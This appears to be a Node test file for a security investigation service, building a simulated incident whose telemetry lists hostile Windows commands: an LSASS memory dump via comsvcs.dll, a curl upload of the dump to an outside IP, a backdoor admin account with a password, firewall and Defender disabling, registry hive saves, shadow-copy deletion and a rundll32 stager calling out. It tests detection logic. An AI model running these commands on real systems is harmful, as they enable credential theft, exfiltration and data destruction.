// What the log of a machine shows of commands decides even where the alert tells of something else, or of nothing.
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { alert, by, connected, ran, wrote } from '../../../lab/situations/shorthand.ts'
import type { Situation, TellSituation } from '../../../lab/situations/situation.ts'
import { ended, resultOf } from '../../../test/support/investigated.ts'
import { startWithLab } from '../../../test/support/lab.ts'

const secret = 'Vinter#2026'

const told: TellSituation = (setting) => {
  const at = setting.ago({ minutes: 40 })
  const [attacked, setUp, visited, tidied, loaded] = [
    ...['hugo.ahlgren', 'felix.isaksson', 'greta.engman', 'robert.keane', 'viktor.sand'],
  ].map((key) => ({ person: setting.person(key), machine: setting.laptopOf(key) }))
  assert.ok(attacked && setUp && visited && tidied && loaded)
  const busy = (host: string) =>
    alert(setting, at, 'siem', 'Disk queue is long', { host, metric: 'disk.queue', value: 41, time: setting.iso(at) })
  const system = { AccountName: 'system', InitiatingProcessFileName: 'cmd.exe' }
  const shell = { ...by(attacked.person), InitiatingProcessFileName: 'rundll32.exe' }
  const library = setting.file('hollowreed-stager.dll')
  const load = 'rundll32.exe C:\\ProgramData\\Drv\\ldrv.dll,Boot'
  const script = [
    'net localgroup administrators stationlocal /add',
    'powershell.exe Add-MpPreference -ExclusionPath C:\\Build',
    'netsh advfirewall set allprofiles state off',
    'reg save HKLM\\SYSTEM D:\\before-set-up.hiv /y',
  ]
  const link =
    'msedge.exe "https://example.org/?q=vssadmin delete shadows /all&then=reg save hklm\\sam x&and=wevtutil cl Security"'
  return {
    id: 'told-by-the-log',
    group: 'test',
    title: 'What the log of a machine shows',
    alerts: [attacked, setUp, visited, tidied, loaded].map(({ machine }) => busy(machine.host)),
    facts: {
      telemetry: [
        ran(attacked.machine, at - 630_000, 'net.exe', `net user helpdsk ${secret} /add`, shell),
        ran(attacked.machine, at - 600_000, 'nltest.exe', 'nltest /dclist:havskog', shell),
        ran(
          attacked.machine,
          at - 540_000,
          'rundll32.exe',
          'rundll32.exe comsvcs.dll, MiniDump 712 C:\\w.dmp full',
          shell,
        ),
        ran(attacked.machine, at - 60_000, 'curl.exe', 'curl.exe -k -T C:\\w.dmp https://146.19.254.9/in/', shell),
        ...script.flatMap((command) =>
          [0, 4, 9].map((days) =>
            ran(
              days === 0 ? setUp.machine : setting.laptopOf('dario.granath-cronholm'),
              at - days * 86_400_000,
              command.split(' ')[0] ?? '',
              command,
              system,
            ),
          ),
        ),
        ran(visited.machine, at, 'msedge.exe', link, by(visited.person)),
        wrote(loaded.machine, at - 240_000, 'ldrv.dll', 'C:\\ProgramData\\Drv', library, {
          InitiatingProcessFileName: 'msiexec.exe',
        }),
        ran(loaded.machine, at - 120_000, 'rundll32.exe', load, by(loaded.person)),
        connected(loaded.machine, at, '194.87.139.12', {
          InitiatingProcessFileName: 'rundll32.exe',
          InitiatingProcessCommandLine: load,
        }),
        ran(tidied.machine, at, 'vssadmin.exe', 'vssadmin delete shadows /for=d: /oldest', system),
      ],
    },
    expected: { verdict: 'malicious' },
    because: 'It is what the tests are about.',
  }
}

let setup: Awaited<ReturnType<typeof startWithLab>>
let situation: Situation
before(async () => {
  setup = await startWithLab({ situations: [told] }, { VEDETTE_ROLES: 'api,worker' })
  await setup.connect('endpoint-detection')
  await setup.connect('threat-intelligence')
  await setup.connect('malware-protection')
  const [found] = setup.lab.control.situations()
  assert.ok(found)
  situation = found
  setup.lab.control.begin(found.id)
})
after(() => setup.stop())

async function investigate(index: number) {
  const { body } = await setup.service.post('/platformapi/alerts', {
    organization_code: 'MAIN',
    ...situation.alerts[index],
  })
  await ended(setup.service, body.alert_uuid)
  return resultOf(setup.service, body.alert_uuid)
}

test('several harmful commands in the log of a machine are an attack, whatever the alert is about', async () => {
  const { investigation, case: opened } = await investigate(0)
  assert.equal(investigation.verdict, 'malicious')
  const [decided] = investigation.findings.filter(
    ({ assessment }: { assessment: string }) => assessment === 'malicious',
  )
  assert.match(decided.statement, /the memory of the sign-in service being written to a file \(T1003\.001\)/)
  const isolated = opened.proposals.filter(({ skill }: { skill: string }) => skill.endsWith('/isolate-machine'))
  assert.equal(isolated.length, 1)
  assert.ok(!JSON.stringify([investigation, opened]).includes(secret), 'the password in a command is not kept')
})

test('what was done on other days too is part of the work', async () => {
  assert.equal((await investigate(1)).investigation.verdict, 'inconclusive')
})

test('what stands in a link that somebody opened was not done', async () => {
  assert.equal((await investigate(2)).investigation.verdict, 'inconclusive')
})

test('a single harmful command proves nothing', async () => {
  const { investigation } = await investigate(3)
  assert.notEqual(investigation.verdict, 'malicious')
  assert.match(JSON.stringify(investigation.findings), /the deletion of shadow copies \(T1490\)/)
})

test('the library that a harmful command loads is asked about, and whom it called', async () => {
  const { investigation, case: opened } = await investigate(4)
  assert.equal(investigation.verdict, 'malicious')
  const asked = investigation.observables.map(({ value }: { value: string }) => value)
  assert.ok(asked.includes('194.87.139.12'), JSON.stringify(asked))
  assert.ok(opened.proposals.some(({ skill }: { skill: string }) => skill.endsWith('/isolate-machine')))
})
